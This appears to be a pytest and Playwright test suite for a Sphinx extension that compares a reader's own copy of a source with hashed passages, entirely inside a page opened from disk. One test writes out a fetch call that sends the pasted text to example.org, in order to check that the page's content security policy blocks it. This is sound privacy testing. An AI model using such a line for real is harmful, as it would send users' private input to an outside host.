"""A reader's own copy of a source, on a page from the disk: found, noted, never sent."""

from __future__ import annotations

import json
import random
import re
import subprocess
import sys
import textwrap
import time
from hashlib import sha256
from typing import TYPE_CHECKING
from unicodedata import category

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from barriers import AXE, RUN_AXE
from projects import CONF, WIRE, write_project
from sphinx_dossier.answers.own_copy import shown_runs
from sphinx_dossier.core.manifests import decompose, normalised, salted, verify, write_manifest
from sphinx_dossier.core.names import words

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from conftest import Pages
    from playwright.sync_api import Browser, Page

    from firefox import Firefox
    from sphinx_dossier.core.manifests import Manifest

COPY = """\
Boats lost at Alda

The harbour office said on Monday that three boats had broken loose and were lost at Allda.

The office denied nothing of it, and Dovrinn told nobody how many crews had been aboard them.

Boats lost at Alda

News of the coast: read more about storms
"""
LINES = [line for line in COPY.split("\n") if line]
PAGES = {
    "sources.bib": WIRE.replace("A wire", "Boats").replace("wire,", "courier,") + WIRE,
    "index.md": """\
# Boats

:::{actor} Harbour office
:id: office
:kind: government-body
:side: shore
:garbled: |
  Office of Allda
  Dovrinn
It counts.
:::

:::{place} Alda
:id: alda
:garbled: Allda
:cites: courier p0
A harbour.
:::

:::{actor} Guild
:id: guild
:kind: research-organisation
:side: sea
It counts too.
:::

:::{actor} The Courier
:id: courier-paper
:kind: media
It prints [the office](#office), [the guild](#guild), [](#alda) and [](#courier-paper).
:::

:::{claim} two-boats
:by: office
:act: asserts
:said: 2030-03-04
:cites: wire
The office spoke of two boats.
:::

:::{claim} three-boats
:by: office
:act: asserts
:said: 2031-03-04
:cites: courier p1 "three boats had broken loose"
:drifted-from: two-boats
The office spoke of three boats.
:::

:::{claim} no-boats
:by: guild
:act: denies
:said: 2030-03-05
:cites: wire
:denies: two-boats
The guild denied that.
:::

:::{claim} crews
:by: office
:act: asserts
:said: 2031-03-04
:cites: courier p2 "how many crews"
The office did not say how many crews were lost.
:::
""",
    "copy.md": "# Your copy\n\n:::{own-copy} courier\n:::\n",
    "passages.md": "# Passages\n\n:::{coverage} courier\n:uncited: p3 the title again\n:::\n",
    "sources.md": "# Sources\n\n:::{bibliography}\n:all:\n:::\n",
}
TOC = "\n:::{toctree}\ncopy\npassages\nsources\n:::\n"
BROKEN = textwrap.fill(LINES[1].replace("Monday", "Sunday"), 40)
NO_LETTER = ("Cn", "Cs")
ROW = ".dossier-copy-row"
STATUS = ".dossier-copy-status"

ASK = """
async (texts) => {
  const own = window.dossierOwnCopy;
  return Promise.all(texts.map(async (text) => [
    own.normalised(text),
    own.wordsOf(text),
    await own.digest(own.normalised(text)),
    own.hex(own.digestByHand(new TextEncoder().encode(text))),
    own.linesOf(text).map(own.normalised),
    [...own.runsOf(text, "salt")],
  ]));
}
"""
"""What the script makes of texts."""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The built pages of a dossier that takes an invented text apart, below a strict policy."""
    return build(tmp_path_factory.mktemp("copy"), PAGES)


@pytest.fixture(scope="module")
def foreign(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same, where the text is in another language than the pages."""
    entries = PAGES["sources.bib"].replace("langid = {en}", "langid = {ru}", 1)
    return build(tmp_path_factory.mktemp("foreign"), PAGES | {"sources.bib": entries})


def build(made: Path, pages: dict[str, str]) -> Path:
    """Pages with the passages of the text, built."""
    manifest = decompose(COPY, "courier", "0123456789abcdef", {"p4": "furniture"})
    pages = pages | {
        "index.md": pages["index.md"] + TOC,
        "sources/courier.passages.json": write_manifest(manifest),
    }
    source = write_project(made / "source", pages, CONF)
    command = [sys.executable, "-m", "sphinx", "-q", "-W", "-b", "html"]
    subprocess.run([*command, str(source), str(made / "html")], check=True, capture_output=True)
    return made / "html"


@pytest.fixture
def desk(page: Pages, folder: Path) -> Page:
    """The page of the copy, from the disk."""
    return page(f"file://{folder}/copy.html")


@pytest.fixture(scope="module")
def script(browser: Browser, folder: Path) -> Iterator[Page]:
    """One page for the many questions that are put to the script alone."""
    tab = browser.new_page()
    tab.goto(f"file://{folder}/copy.html")
    yield tab
    tab.close()


def put_in(desk: Page, text: str) -> list[str]:
    """Put a text in, wait for what is made of it; the state of each row."""
    state = f"document.querySelector('{STATUS}').textContent"
    desk.fill("textarea", "")
    desk.wait_for_function(f"() => !{state}")
    desk.fill("textarea", text)
    desk.wait_for_function(f"() => !['', 'Comparing …'].includes({state})")
    names = [row.get_attribute("class") for row in desk.query_selector_all(ROW)]
    return [str(name).rpartition("-")[2] for name in names]


def test_copy_is_found_and_shown_with_its_claims(page: Pages, desk: Page) -> None:
    """Each passage of the same text, with who speaks, what became of it, and what is left out."""
    assert ["same"] * 5 == put_in(desk, COPY)
    assert "5 passages are as they were read here." == desk.inner_text(STATUS)
    second = desk.locator(ROW).nth(1)
    assert "¶ 1 body" == second.locator(".dossier-copy-head").inner_text()
    assert ["three boats had broken loose"] == second.locator("mark").all_inner_texts()
    notes = second.locator("li").inner_text()
    assert "Harbour office stated" in notes
    assert "drifted from Harbour office" in notes
    assert "Said against it, and not in this source: Guild, 5 March 2030" in notes
    link = second.locator("li a", has_text="The office spoke of three boats").get_attribute("href")
    assert "index.html#three-boats" == link
    # In place, with what is meant; once a passage.
    assert ["Allda"] == second.locator(".dossier-garbled").all_inner_texts()
    meant = second.locator(".dossier-copy-meant a")
    assert ("Alda", "index.html#alda") == (meant.inner_text(), meant.get_attribute("href"))
    assert "Dovrinn" == desk.locator(ROW).nth(2).locator(".dossier-garbled").inner_text()
    # What is shown is the copy, letter by letter.
    texts = desk.locator(".dossier-copy-text").evaluate_all(
        "all => all.map((one) => [...one.childNodes].filter((node) => "
        "node.className !== 'dossier-copy-meant').map((node) => node.textContent).join(''))"
    )
    assert LINES == [
        re.sub(r" (?=\W|$)", "", one.replace("Allda .", "Allda.").replace("  ", " "))
        for one in texts
    ]
    assert [] == page.errors


def test_copy_in_another_language_says_so(page: Pages, foreign: Path) -> None:
    """Its text and the quotes from it, and nothing that is said about it in that of the page."""
    desk = page(f"file://{foreign}/copy.html")
    assert ["same", "changed", *["same"] * 3] == put_in(desk, COPY.replace("three", "four"))
    spoken = "one => one.closest('[lang]').lang"
    language = lambda found: found.evaluate_all(f"all => all.map({spoken})")  # noqa: E731
    assert ["ru"] == language(desk.locator("textarea"))
    assert ["ru"] * 5 == language(desk.locator(".dossier-copy-text"))
    assert {"ru"} == {*language(desk.locator(f"{ROW} q"))}
    assert {"ru"} == {*language(desk.locator(".dossier-garbled"))}
    others = f"{ROW} :is(.dossier-copy-head, .dossier-copy-meant, .dossier-row-text, li p)"
    assert {"en"} == {*language(desk.locator(others))}
    assert [] == page.errors


@pytest.mark.parametrize(
    ("change", "states", "said"),
    [
        (lambda text: text.replace("three", "four"), ["same", "changed", "same", "same", "same"],
         "4 passages are as they were read here, 1 has other words."),
        (lambda text: f"A line of mine\n{text}", ["unknown", *["same"] * 5],
         "5 passages are as they were read here, 1 line is of something else."),
        (lambda text: text.replace(f"{LINES[1]}\n", ""), ["same"] * 4,
         "4 passages are as they were read here, 1 is missing."),
        (lambda text: text.replace(" ", "  \t").replace("\n", "\r\n"), ["same"] * 5,
         "5 passages are as they were read here."),
        (lambda text: "\n\n".join(textwrap.fill(one, 30) for one in text.split("\n")), ["same"] * 5,
         "5 passages are as they were read here."),
        (lambda text: text.replace(LINES[1], BROKEN),
         ["same", "changed", "same", "same", "same"],
         "4 passages are as they were read here, 1 has other words."),
        (lambda _: "Nothing of all this is here at all.", [],
         "None of the passages is in this text: it is another one."),
    ],
    ids=["changed", "more", "missing", "blanks", "broken lines", "changed and broken", "another"],
)  # fmt: skip
def test_other_copies(desk: Page, change, states, said) -> None:  # type: ignore[no-untyped-def]
    """What differs is told, and still found where a good part of it is there."""
    assert states == put_in(desk, change(COPY))
    assert said == desk.inner_text(STATUS)


def test_same_answer_as_the_command(desk: Page) -> None:
    """What `dossier verify` says of a copy with the same passages in the same order."""
    manifest = decompose(COPY, "courier", "0123456789abcdef")
    chance = random.Random(13)
    for _ in range(12):
        lines = [*LINES]
        for _ in range(chance.randrange(3)):
            at = chance.randrange(len(lines))
            pieces = lines[at].split()
            pieces[chance.randrange(len(pieces))] = chance.choice(["Xyz", "three", "é", "漢"])
            lines[at] = " ".join(pieces)
        text = "\n".join(lines)
        differing = sum("has other words" in one for one in verify(text, manifest))
        states = put_in(desk, f"{text}\n{chance.random()} only to differ from before")
        # A title of four words has two runs: with one of them changed it is not found again.
        assert len(LINES) - differing == states.count("same"), text


# Letters of all sorts, among them those that fold, compose or separate words in ways of their own.
SIGNS = st.sampled_from(
    " \t\x0b\x0c\x1c\x85\xa0\u1680\u2003\u2028\u202f\u3000\ufeff\u200b.,'’-_"
    "aZéßẞıİſςΣΐǰŉևﬁ①½²ªÅÅ\u0301\u0308\u0327漢カｶ한שؤؤक्षि\u0e33Ꭰꭰᏸ𝒜𐐀🎉0٣"
)
TEXTS = st.lists(st.text(SIGNS, max_size=40) | st.text(max_size=20), min_size=8, max_size=8)


@settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(TEXTS)
def test_script_and_command_agree(script: Page, texts: list[str]) -> None:
    """The same normalisation, the same words, the same hashes, whatever the letters."""
    # What Python knows no letter for, browsers may: their Unicode is newer.
    texts = ["".join(sign for sign in text if category(sign) not in NO_LETTER) for text in texts]
    found = script.evaluate(ASK, texts)
    for text, (plain, own_words, digest, by_hand, lines, runs) in zip(texts, found, strict=True):
        assert normalised(text) == plain, json.dumps(text)
        assert words(text) == own_words, json.dumps(text)
        assert sha256(normalised(text).encode()).hexdigest() == digest
        assert sha256(text.encode()).hexdigest() == by_hand
        made = decompose(text.replace("\r\n", "\n").replace("\r", "\n"), "k", "salt")
        hashes = [one.sha256 for one in made.passages.values()]
        assert hashes == [sha256(one.encode()).hexdigest() for one in lines], json.dumps(text)
        wanted = {salted("salt", words(text)[at : at + 3]) for at in range(len(words(text)) - 2)}
        assert wanted == {*runs}


def made_up(chance: random.Random, count: int) -> list[str]:
    """Words of no language, some far more often than others, as in any text."""
    return [f"w{int(5 * 600 ** chance.random())}" for _ in range(count)]


@pytest.mark.parametrize(("share", "least"), [(0.1, 0.99), (0.2, 0.97), (0.3, 0.92), (0.5, 0.63)])
def test_changed_words_in_a_copy(script: Page, share: float, least: float) -> None:
    """Most passages with so many words exchanged are found, and none in another's place."""
    chance = random.Random(17)
    found = wrong = count = 0
    for number in range(6):
        lines = [made_up(chance, chance.randint(15, 100)) for _ in range(30)]
        manifest = decompose("\n".join(map(" ".join, lines)), "k", f"salt {number}")
        changed = [
            [made_up(chance, 1)[0] if at % 3 and chance.random() < share else word for word in line]
            for at, line in enumerate(lines)
        ]
        states = matched(script, manifest, changed)
        count += sum(one != other for one, other in zip(lines, changed, strict=True))
        for at, (state, passage) in enumerate(states):
            found += (state, passage) == ("changed", f"p{at}")
            wrong += passage not in ("", f"p{at}")
    assert found >= least * count
    assert wrong <= count / 100


def test_another_text_is_no_copy(script: Page) -> None:
    """No line of a text of the same words is taken for a passage, and hardly one in its place."""
    chance = random.Random(18)
    alone = beside = 0
    for number in range(6):
        lines = [made_up(chance, chance.randint(15, 100)) for _ in range(30)]
        manifest = decompose("\n".join(map(" ".join, lines)), "k", f"salt {number}")
        others = [made_up(chance, chance.randint(15, 100)) for _ in range(30)]
        alone += sum(bool(passage) for _, passage in matched(script, manifest, others))
        mixed = [line if at % 3 == 0 else others[at] for at, line in enumerate(lines)]
        beside += sum(state == "changed" for state, _ in matched(script, manifest, mixed))
    assert (0, True) == (alone, beside <= 3)


def matched(script: Page, manifest: Manifest, lines: list[list[str]]) -> list[tuple[str, str]]:
    """For each row of a copy how it is found, and as which passage."""
    passages = [
        {"id": name, "words": one.words, "sha256": one.sha256, "runs": shown_runs(one.shingles)}
        for name, one in manifest.passages.items()
    ]
    found = script.evaluate(
        """async (copy) => (await window.dossierOwnCopy.match(...copy))
          .map(({ state, passage }) => [state, passage?.id ?? ""])""",
        ["\n".join(map(" ".join, lines)), manifest.salt, passages],
    )
    return [(state, passage) for state, passage in found]


def test_long_texts_have_the_right_hash(script: Page) -> None:
    """By hand too: lengths around the edges of a block, and of several."""
    lengths = [0, 1, 54, 55, 56, 63, 64, 65, 119, 120, 1000, 70000]
    found = script.evaluate(
        "(lengths) => lengths.map((length) => window.dossierOwnCopy.hex("
        "window.dossierOwnCopy.digestByHand(new Uint8Array(length).fill(97))))",
        lengths,
    )
    assert [sha256(b"a" * length).hexdigest() for length in lengths] == found


def test_without_web_crypto(desk: Page) -> None:
    """Where a browser keeps it from a page, as over http from elsewhere, the script does it."""
    desk.evaluate("Object.defineProperty(crypto, 'subtle', { value: undefined })")
    assert ["same"] * 5 == put_in(desk, COPY)


def test_nothing_leaves_the_page(page: Pages, desk: Page) -> None:
    """No request follows from a copy, nothing is kept, and a script that tried would fail."""
    asked: list[str] = []
    desk.on("request", lambda request: asked.append(request.url))
    put_in(desk, COPY)
    assert [] == asked
    assert [0, 0] == desk.evaluate("[localStorage.length, sessionStorage.length]")
    assert [] == page.errors
    tried = desk.evaluate(
        "fetch('https://example.org/?q=' + document.querySelector('textarea').value)"
        ".then(() => 'sent', (error) => 'refused')"
    )
    assert "refused" == tried
    assert any("connect-src 'none'" in error for error in page.errors)


def test_file_is_opened(desk: Page, tmp_path: Path) -> None:
    """A file of text is read; one that is none is told."""
    good, bad = tmp_path / "copy.txt", tmp_path / "copy.pdf"
    good.write_bytes(b"\xef\xbb\xbf" + COPY.replace("\n", "\r\n").encode())
    bad.write_bytes(b"%PDF-1.4\0\xff\xfe")
    desk.set_input_files("input[type=file]", good)
    desk.wait_for_selector(ROW)
    assert "5 passages are as they were read here." == desk.inner_text(STATUS)
    desk.set_input_files("input[type=file]", bad)
    desk.wait_for_function("() => !document.querySelector('.dossier-copy-row')")
    desk.wait_for_function(
        f"() => document.querySelector('{STATUS}').textContent.includes('plain text')"
    )
    desk.click("text=Take it away")
    assert ("", "") == (desk.input_value("textarea"), desk.inner_text(STATUS))


def test_dropped_file_is_opened(desk: Page) -> None:
    """As one that is chosen, and the browser does not leave the page for it."""
    desk.evaluate(
        "(text) => { const data = new DataTransfer(); data.items.add(new File([text], 'a.txt'));"
        "document.querySelector('textarea').dispatchEvent(new DragEvent('drop', "
        "{ dataTransfer: data, bubbles: true, cancelable: true })) }",
        COPY,
    )
    desk.wait_for_selector(ROW)
    assert COPY.strip() == desk.input_value("textarea").strip()


def test_words_of_a_note_are_framed_while_it_is_read(desk: Page) -> None:
    """The pointer and the focus each do it, and neither takes it from the other."""
    put_in(desk, COPY)
    mark = desk.locator("mark", has_text="three boats had broken loose")
    note = desk.locator(ROW).nth(1).locator("li").first
    link = note.locator("a").first

    def is_framed() -> bool:
        return "is-asked" in str(mark.get_attribute("class"))

    assert not is_framed()
    link.focus()
    assert is_framed()
    note.hover()
    desk.mouse.move(0, 0)
    assert is_framed()
    note.hover()
    link.blur()
    assert is_framed()
    desk.mouse.move(0, 0)
    assert not is_framed()


def test_filter(desk: Page) -> None:
    """Passages and claims of one sort, and all of them again; by keyboard too."""
    put_in(desk, COPY)
    shown = f"{ROW}:visible"
    changed = desk.get_by_label("changed on the way 1")
    changed.check()
    assert ["¶ 1 body"] == desk.locator(f"{shown} .dossier-copy-head").all_inner_texts()
    changed.press("ArrowDown")
    assert ["¶ 2 body"] == desk.locator(f"{shown} .dossier-copy-head").all_inner_texts()
    desk.get_by_label("All").check()
    assert 5 == desk.locator(shown).count()


def test_filter_has_an_address(page: Pages, desk: Page) -> None:
    """Who opens it puts in a copy of his own, and sees the same sort of it; no word is in it."""
    put_in(desk, COPY)
    desk.get_by_label("changed on the way 1").check()
    assert desk.url.endswith("copy.html#own-copy:changed")
    again = page(desk.url)
    put_in(again, COPY)
    shown = again.locator(f"{ROW}:visible .dossier-copy-head")
    assert ["¶ 1 body"] == shown.all_inner_texts()
    assert again.get_by_label("changed on the way 1").is_checked()
    again.evaluate("location.hash = '#own-copy:no-such-sort'")
    again.wait_for_function(f"document.querySelectorAll('{ROW}:not([hidden])').length === 5")
    desk.get_by_label("All").check()
    assert desk.url.endswith("copy.html")


@pytest.mark.parametrize("width", [1280, 360])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_barrier(page: Pages, folder: Path, width: int, scheme: str) -> None:
    """Axe finds nothing, before and after, and nothing runs out of its room."""
    desk = page(f"file://{folder}/copy.html", width=width, scheme=scheme, bypass_csp=True)
    put_in(desk, COPY.replace("Monday", "Tuesday"))
    desk.add_script_tag(content=AXE.read_text(encoding="utf-8"))
    found = desk.evaluate(RUN_AXE)
    assert [] == [one for one in found if "dossier-" in one or "textarea" in one]
    # Of its own; the theme itself is a little wider than the narrow window.
    sizes = "one => [one.scrollWidth, one.clientWidth]"
    wanted, there = desk.locator(".dossier-own-copy").evaluate(sizes)
    assert wanted <= there


def test_without_javascript(page: Pages, folder: Path) -> None:
    """No field that does nothing: a line that says what to read instead."""
    shown = page(f"file://{folder}/copy.html", java_script_enabled=False)
    assert 0 == shown.locator("textarea, input[type=file], .dossier-rows:visible").count()
    link = shown.locator(".dossier-copy-instead a")
    assert "passages.html" == link.get_attribute("href")


def test_on_paper(desk: Page) -> None:
    """The text and its notes, without the field; what is filtered out stays out."""
    put_in(desk, COPY)
    desk.get_by_label("changed on the way 1").check()
    desk.emulate_media(media="print")
    assert desk.locator("textarea").is_hidden()
    assert ["¶ 1 body"] == desk.locator(f"{ROW}:visible .dossier-copy-head").all_inner_texts()
    assert desk.locator(f"{ROW} li:visible").count() == 1


def test_in_firefox(firefox: Firefox | Page, folder: Path) -> None:
    """Another browser finds the same in a page from the disk, with Web Crypto and without."""
    for crypto in ("", "Object.defineProperty(crypto, 'subtle', { value: undefined });"):
        firefox.goto(f"file://{folder}/copy.html")
        firefox.evaluate(
            f"(() => {{ {crypto} const field = document.querySelector('textarea');"
            f"field.value = {json.dumps(COPY)}; field.dispatchEvent(new Event('input')) }})()"
        )
        said = ""
        for _ in range(100):
            said = firefox.evaluate(f"document.querySelector('{STATUS}').textContent")
            if said not in ("", "Comparing …"):
                break
            time.sleep(0.1)
        assert "5 passages are as they were read here." == said
        quoted = firefox.evaluate("document.querySelector('mark').textContent")
        assert "three boats had broken loose" == quoted
